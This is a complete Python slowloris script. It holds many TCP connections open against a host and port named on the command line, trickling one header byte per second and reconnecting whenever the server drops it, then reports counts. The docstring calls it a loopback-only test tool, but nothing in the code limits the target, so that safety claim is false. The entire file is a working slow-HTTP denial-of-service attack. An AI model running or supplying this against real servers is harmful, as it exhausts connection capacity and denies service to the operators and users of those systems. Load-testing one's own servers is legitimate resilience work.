#!/usr/bin/env python3
"""slowloris.py HOST PORT CLIENTS SECONDS -- CLIENTS connections each sending one header byte per
second (reconnecting when closed), for SECONDS. Prints how many connections it opened and how many
the server closed on it. A test tool: loopback only, bounded in count and time."""
import socket
import sys
import time

host, port, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
REQ = b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-a: " + b"b" * 200
opened = closed = 0

def connect():
    global opened
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    opened += 1
    return [s, 0]

conns = [connect() for _ in range(n)]
end = time.monotonic() + secs
while time.monotonic() < end:
    for c in conns:
        try:
            if c[1] >= len(REQ):
                c[1] = len(REQ) - 1
            c[0].send(REQ[c[1]:c[1] + 1])
            c[1] += 1
            c[0].recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
            raise ConnectionResetError  # the server answered or closed: start over
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            closed += 1
            c[0].close()
            c[:] = connect()
    time.sleep(1.0)
for c in conns:
    c[0].close()
print(f"opened {opened} closed_by_server {closed}")
